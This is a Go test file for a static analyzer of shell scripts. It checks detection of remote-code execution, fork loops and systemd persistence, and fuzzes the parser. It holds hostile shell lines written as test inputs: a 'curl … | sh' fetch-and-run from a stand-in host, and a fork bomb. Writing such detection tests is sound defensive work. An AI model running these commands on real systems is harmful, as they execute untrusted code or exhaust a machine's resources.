package shell_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/metahub-ai/attest/checks/analysis"
	"github.com/metahub-ai/attest/checks/facts"
	"github.com/metahub-ai/attest/checks/facts/shell"
)

// An anonymous function ("() cmd", which the bash parser accepts as a
// declaration with no name) runs where it stands: its body is the
// program's, and a nameless declaration is no panic.
func TestAnonymousFunction(t *testing.T) {
	set := analysis.Code("shell", "x.sh", "() curl -s https://h.example/x | sh", 0, 0)
	if !slices.ContainsFunc(set.Flows, func(f facts.Flow) bool {
		return f.From.Label == facts.RemoteContent && f.To.Kind == facts.ExecShell
	}) {
		t.Errorf("the body of an anonymous function is not followed: %+v", set.Flows)
	}
	for _, src := range []string{`"()0`, "()0", "() echo", "() { echo hi; }"} {
		if u := shell.Lower("x.sh", src, 0); u == nil || u.Top == nil {
			t.Errorf("%q: no unit", src)
		}
	}
}

// A named function that runs itself twice over is still a fork loop.
func TestForkLoop(t *testing.T) {
	set := analysis.Code("shell", "x.sh", ":(){ :|:& };:", 0, 0)
	if !slices.ContainsFunc(set.Effects, func(e facts.Effect) bool { return e.Kind == facts.ForkLoop }) {
		t.Errorf("no fork loop: %+v", set.Effects)
	}
}

func FuzzLower(f *testing.F) {
	for _, s := range []string{
		`"()0`, // a declaration with no name, once a panic
		"() echo",
		"curl -s https://h.example/x | sh",
		":(){ :|:& };:",
		"cat <<EOF\nx\nEOF",
		"a=$(b <(c)); for i in 1 2; do echo $i; done",
		"case $x in a) eval \"$y\";; esac",
		"if then fi (",
		"function f g { :; }",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 4096 {
			return
		}
		u := shell.Lower("f.sh", src, 0)
		if u == nil || u.Top == nil || u.Lang != "shell" {
			t.Fatal("no unit")
		}
		if n := strings.Count(src, "\n") + 1; len(u.Unresolved) > n+1 {
			t.Fatalf("%d notes for %d lines", len(u.Unresolved), n)
		}
		analysis.Code("shell", "f.sh", src, 0, 0)
	})
}

// An option given with no value names nothing: the units systemctl
// enables are its words, never the "true" of a switch.
func TestSwitchIsNoArgument(t *testing.T) {
	set := analysis.Code("shell", "x.sh", "systemctl --user enable --now helper.service", 0, 0)
	var dests []string
	for _, s := range set.Sinks {
		if s.Kind == facts.Persist {
			dests = append(dests, s.Dest)
		}
	}
	if !slices.Equal(dests, []string{"helper.service"}) {
		t.Errorf("persist sinks %q, want [helper.service]", dests)
	}
}
